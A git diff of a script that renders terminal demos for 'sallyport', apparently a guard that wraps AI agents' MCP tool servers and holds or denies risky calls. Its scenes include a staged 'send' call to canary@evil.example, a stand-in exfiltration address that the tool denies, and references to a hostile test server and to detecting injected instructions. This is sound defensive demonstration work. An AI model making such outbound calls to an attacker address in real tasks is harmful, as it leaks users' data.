@@ -12,7 +12,7 @@ import { openTerminal } from './terminal/tmux.mjs';
 
 const options = readOptions(
   `
-Runs init, wrap, approve, pins, doctor, check and replay in tmux, in a temporary home folder, and writes docs/wrap/*.svg and
+Runs init, wrap, approve, log, pins, doctor, check and replay in tmux, in a temporary home folder, and writes docs/wrap/*.svg and
 docs/replay/*.svg. Needs tmux and a build: npm run build.
 
   node tools/docs/draw-terminal.mjs                all of them
@@ -59,7 +59,7 @@ write('.config/Claude/claude_desktop_config.json', {
 const bin = join(home, 'bin');
 mkdirSync(bin);
 writeFileSync(join(bin, 'sallyport'), `#!/bin/sh\nexec "${process.execPath}" "${MAIN}" "$@"\n`, { mode: 0o755 });
-const env = { HOME: home, SALLYPORT_STATE: state, PATH: `${bin}:${process.env.PATH}` };
+const env = { HOME: home, SALLYPORT_STATE: state, SALLYPORT_DAEMON: 'off', PATH: `${bin}:${process.env.PATH}` };
 
 /** A client that talks to the hostile server of `doctor` through the wrapper, and waits for each answer. */
 async function wrapped() {
@@ -114,12 +114,19 @@ await scene('wrap', 'init', 'sallyport init shows what it changes in two clients
 await scene('wrap', 'approve', 'sallyport approve asks about a held call', async (terminal, run) => {
   const client = await wrapped();
   await client.call('read', { to: 'me' });
-  const answered = client.call('send', { to: 'friend@home.example' });
+  const answered = client.call('send', { body: 'Dear canary@evil.example and all' });
   await run('sallyport approve --watch', 'Approve this call?');
   terminal.type('y');
   terminal.enter();
   await terminal.see('Approved.');
   await answered;
+  client.end();
+});
+await scene('wrap', 'log', 'sallyport log shows a denied call with its evidence', async (_, run) => {
+  const client = await wrapped();
+  await client.call('read', { to: 'me' });
+  await client.call('send', { to: 'canary@evil.example' });
+  await run('sallyport log --last 2', 'Let it pass once');
   client.end();
 });
 await scene('wrap', 'pins', 'sallyport pins shows how a definition has changed', async (_, run) => {
@@ -130,9 +137,20 @@ await scene('wrap', 'pins', 'sallyport pins shows how a definition has changed',
   await run('sallyport pins show mail', 'To accept');
   client.end();
 });
-await scene('wrap', 'doctor', 'sallyport doctor: thirteen of thirteen checks passed', async (_, run) => {
-  await run('sallyport doctor', 'checks passed.');
-});
+await scene(
+  'wrap',
+  'doctor',
+  'sallyport doctor: thirteen of thirteen checks passed, and three servers of the user',
+  async (_, run) => {
+    const args = ['wrap', '--server', 'mail', 'sallyport', 'doctor', '--canary'];
+    const linear = { url: 'https://mcp.linear.example/mcp' };
+    write('.cursor/mcp.json', { mcpServers: { mail: { command: 'sallyport', args }, linear } });
+    write('.config/Claude/claude_desktop_config.json', {
+      mcpServers: { notes: { command: 'npx', args: ['-y', 'notes'] } },
+    });
+    await run('sallyport doctor', 'wrapped now');
+  },
+);
 await scene('replay', 'check', 'sallyport check marks what reads like an instruction', async (_, run) => {
   writeFileSync(join(home, 'mail.txt'), MAIL);
   writeFileSync(join(home, 'ticket.json'), JSON.stringify(TICKET, null, 2));
